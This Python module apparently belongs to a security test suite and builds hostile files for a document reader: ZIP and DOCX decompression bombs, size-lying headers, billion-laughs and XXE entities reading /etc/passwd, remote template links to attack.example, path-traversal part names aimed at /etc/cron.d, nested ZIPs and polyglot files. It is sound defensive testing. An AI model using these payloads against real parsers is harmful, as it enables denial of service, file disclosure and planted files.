"""Packed files: bombs, lies about sizes, ZIPs in ZIPs, DOCX that would fetch or open, files that are two things at once."""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from bench.hostile.shapes import MB, MORE, REPORT, Case, Cases, Fails, Reads, article, page

BLOCK = b"\0" * MB
TYPES_NAME = b"[Content_Types].xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
KINDS = "application/vnd.openxmlformats"
TYPES = (
    f"<Types xmlns='{PACKAGE}/content-types'><Default Extension='rels' ContentType='{KINDS}-package.relationships+xml'/>"
    "<Default Extension='png' ContentType='image/png'/><Override PartName='/word/document.xml' "
    f"ContentType='{KINDS}-officedocument.wordprocessingml.document.main+xml'/></Types>"
)
ROOT = (
    f"<Relationships xmlns='{PACKAGE}/relationships'>"
    f"<Relationship Id='r1' Type='{OFFICE}/officeDocument' Target='word/document.xml'/></Relationships>"
)
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
BODY = PARAGRAPH.format(REPORT) + PARAGRAPH.format(MORE)
OFFICE_FAILS = Fails(("BadOffice", "OutOfBounds"))


def zeros(
    size: int, wbits: int = -zlib.MAX_WBITS, head: bytes = b"", tail: bytes = b"", fill: int | None = None, block: bytes = BLOCK
) -> bytes:
    """So many zeros between head and tail, packed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    left = size if fill is None else fill
    out = [packer.compress(head)]
    while left > 0:
        out.append(packer.compress(block[: min(left, len(block))]))
        left -= len(block)
    return b"".join((*out, packer.compress(tail), packer.flush()))


def document(body: str, head: str = "") -> str:
    """The main part of a DOCX."""
    return f"<?xml version='1.0' encoding='UTF-8'?>{head}<w:document xmlns:w='{W}' xmlns:r='{OFFICE}'><w:body>{body}</w:body></w:document>"


def docx(body: str = BODY, more: dict[str, str | bytes] | None = None, *, head: str = "") -> bytes:
    """A DOCX with this body and these parts more."""
    out = io.BytesIO()
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": ROOT,
        "word/document.xml": document(body, head),
        **(more or {}),
    }
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


class Packed(NamedTuple):
    """An entry of a ZIP as it says it is."""

    name: bytes
    data: bytes
    size: int
    sum: int = 0


def raw(parts: list[Packed], *, same: int = 1) -> bytes:
    """A ZIP of entries that say what they like; each is listed `same` times with the same data."""
    body, listed = b"", []
    for part in parts:
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, part.sum, len(part.data), part.size, len(part.name), 0)
        listed += [b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + part.name] * same
        body += b"PK\3\4" + fields + part.name + part.data
    last = b"".join(listed)
    return body + last + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(listed), len(listed), len(last), len(body), 0)


def small(name: bytes, words: str) -> Packed:
    """Words packed, with all that is said of them true."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return Packed(name, packer.compress(words.encode()) + packer.flush(), len(words.encode()), zlib.crc32(words.encode()))


def bomb(size: int, said: int | None = None) -> bytes:
    """A DOCX whose main part unpacks to so many spaces; `said` is what it says of its size."""
    head, tail = document("").replace("</w:body></w:document>", "").encode(), b"</w:body></w:document>"
    packed = zeros(size, head=head + BODY.encode(), tail=tail, block=b" " * MB)
    whole = size + len(head) + len(BODY.encode()) + len(tail)
    return raw([small(TYPES_NAME, TYPES), small(b"_rels/.rels", ROOT), Packed(b"word/document.xml", packed, said or whole)])


def inside(data: bytes, name: str, levels: int = 1) -> bytes:
    """A ZIP in a ZIP in a ZIP."""
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
            made.writestr(zipfile.ZipInfo(name), data)
        data, name = out.getvalue(), "inner.zip"
    return data


def relations(*rows: str) -> str:
    """The relations of the main part."""
    return f"<Relationships xmlns='{PACKAGE}/relationships'>{''.join(rows)}</Relationships>"


def relation(kind: str, target: str, *, external: bool = True) -> str:
    """One relation."""
    mode = " TargetMode='External'" if external else ""
    return f"<Relationship Id='x{kind}' Type='{OFFICE}/{kind}' Target='{target}'{mode}/>"


def cases() -> Cases:
    """The cases."""
    rels = "word/_rels/document.xml.rels"
    outside = relations(
        relation("attachedTemplate", "http://attack.example/t.dotm"),
        relation("image", "file:///etc/passwd"),
        relation("frame", "//attack.example/x"),
    )
    laughs = "<!DOCTYPE x [<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(9)) + "]>"
    opens = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    zipped = Fails(("BinaryInput",))
    return (
        Case("bomb.docx", "a DOCX of 1 MB that unpacks to 1 GB", lambda: bomb(1 << 30), OFFICE_FAILS, heavy=True),
        Case("lies.docx", "the same, and it says it is small", lambda: bomb(1 << 28, 1000), OFFICE_FAILS, heavy=True),
        Case(
            "picture.docx",
            "a DOCX with a picture that unpacks to 1 GB",
            lambda: docx(more={"word/media/a.png": BLOCK * 512, rels: relations(relation("image", "media/a.png", external=False))}),
            Fails(("BadOffice", "OutOfBounds")),
            heavy=True,
        ),
        Case(
            "members.docx",
            "a DOCX of 60,000 parts",
            lambda: docx(more={f"word/{n}.xml": b"" for n in range(60_000)}),
            OFFICE_FAILS,
            heavy=True,
        ),
        Case(
            "same.docx",
            "a DOCX that lists one bomb 5,000 times",
            lambda: raw([small(TYPES_NAME, TYPES), Packed(b"word/x.xml", zeros(64 * MB), 64 * MB)], same=5_000),
            OFFICE_FAILS,
            heavy=True,
        ),
        Case("laughs.docx", "an entity bomb in a DOCX", lambda: docx(BODY + PARAGRAPH.format("&l9;"), head=laughs), Reads(lacks="lollol")),
        Case("xxe.docx", "an entity that would open a file, in a DOCX", lambda: docx(BODY + PARAGRAPH.format("&x;"), head=opens)),
        Case("outside.docx", "a template and pictures on the network", lambda: docx(more={rels: outside})),
        Case(
            "deep.docx",
            "tables 3,000 deep in a DOCX",
            lambda: docx(BODY + "<w:tbl><w:tr><w:tc>" * 3_000 + PARAGRAPH.format("x") + "</w:tc></w:tr></w:tbl>" * 3_000),
            heavy=True,
        ),
        Case("paragraphs.docx", "a DOCX of 100,000 paragraphs", lambda: docx(BODY + PARAGRAPH.format("a") * 100_000), Reads(), heavy=True),
        Case(
            "text.docx",
            "a DOCX of 20 MB of text",
            lambda: docx(PARAGRAPH.format("The road is closed. " * MB)),
            Fails(("TooLarge",)),
            heavy=True,
        ),
        Case(
            "cells.docx",
            "a table whose cells say they span 100,000 columns",
            lambda: docx(
                BODY + "<w:tbl><w:tr>" + "<w:tc><w:tcPr><w:gridSpan w:val='100000'/></w:tcPr><w:p/></w:tc>" * 99 + "</w:tr></w:tbl>"
            ),
            heavy=True,
        ),
        Case("damaged.docx", "a DOCX whose XML breaks off", lambda: docx(BODY + "<w:p><w:r><w:t>x")),
        Case(
            "names.docx",
            "a DOCX whose parts have names that lead elsewhere",
            lambda: docx(more={"../../etc/passwd": "x", "/etc/cron.d/x": "x", "word/\x1b[2J": "x"}),
        ),
        Case("none.docx", "a ZIP that says word/ and is no DOCX", lambda: inside(b"word/", "word/x"), OFFICE_FAILS),
        Case("two.docx", "a DOCX that is a page, too", lambda: docx() + page(article())),
        Case("nested.zip", "ZIPs in each other", lambda: inside(REPORT.encode(), "report.txt", 20), zipped),
        Case("report.gz", "a packed page", lambda: zeros(0, zlib.MAX_WBITS | 16, page(article())), zipped),
        Case("front.html", "a page with a ZIP behind it", lambda: page(article()) + inside(REPORT.encode(), "report.txt"), zipped),
        Case("picture.html", "a picture that is a page, too", lambda: b"GIF89a/*" + page(article()) + b"*/", zipped),
    )
